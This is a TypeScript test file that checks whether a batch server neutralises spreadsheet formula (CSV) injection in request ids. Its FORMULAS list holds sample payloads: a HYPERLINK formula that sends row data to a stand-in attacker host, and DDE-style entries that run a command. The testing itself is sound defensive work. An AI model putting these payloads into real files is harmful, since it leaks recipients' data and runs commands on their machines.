/**
 * Issue 15, item 8e: a requester (or whoever fills its request file) chooses request ids that a
 * spreadsheet runs as formulas, `=HYPERLINK("https://…?"&C2,"open")` sending the row's released
 * fields away when the recipient's analyst opens the response file. Every cell of the response
 * file that begins with `=`, `+`, `-` or `@` arrives with a `'` in front (OWASP's CSV injection
 * guidance), so a spreadsheet shows it as text, and dropping that one `'` gives the id back.
 */
import { strict as assert } from 'node:assert'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { restoreCsvCell } from '../../src/core/index.js'
import { bearer, startBatchServer, submitAndWait } from './small-support.js'
import { ATTACK_BACKENDS } from './support.js'

/** Request ids a spreadsheet would run. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&C2,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0']

/** A CSV cell as a spreadsheet program would be given it (quoted per RFC 4180). */
function quoted(value: string): string {
  return `"${value.replace(/"/g, '""')}"`
}

for (const backend of ATTACK_BACKENDS) {
  describe(`a requester sends request ids that a spreadsheet runs as formulas (${backend.name})`, { skip: backend.skip }, () => {
    it('every such id arrives in the response file with a quote in front, shown as text, and recoverable exactly', async () => {
      const place = await backend.fresh()
      const server = await startBatchServer(place)
      try {
        const [header, ...rows] = server.requestsCsv.trimEnd().split('\n')
        // The first rows' ids replaced by formulas; the rest of each row as generated.
        const planted = rows.map((row, i) => (i < FORMULAS.length ? `${quoted(FORMULAS[i]!)}${row.slice(row.indexOf(','))}` : row))
        const batchId = await submitAndWait(server, `${[header, ...planted].join('\n')}\n`)
        const response = await server.app.inject({ method: 'GET', url: `/v1/batches/${batchId}/response`, headers: bearer(server.keys.requester) })
        assert.equal(response.statusCode, 200, response.body)
        const cells = parse(response.body, { columns: true }) as Record<string, string>[]
        const ids = cells.map((c) => c['request_id']!)
        for (const formula of FORMULAS) {
          assert.ok(ids.includes(`'${formula}`), `${formula} arrives neutralized: ${ids.slice(0, 6).join(' | ')}`)
          assert.ok(!ids.includes(formula), `${formula} never arrives raw`)
        }
        // No cell of the file begins as a formula.
        for (const row of cells) for (const [column, value] of Object.entries(row)) assert.ok(!/^[=+\-@\t\r]/.test(value), `${column}: ${value}`)
        // Recoverable: the ids sent, in order.
        assert.deepEqual(ids.map(restoreCsvCell), planted.map((row) => (parse(row) as string[][])[0]![0]))
      } finally {
        await server.close()
        await place.dispose()
      }
    })
  })
}
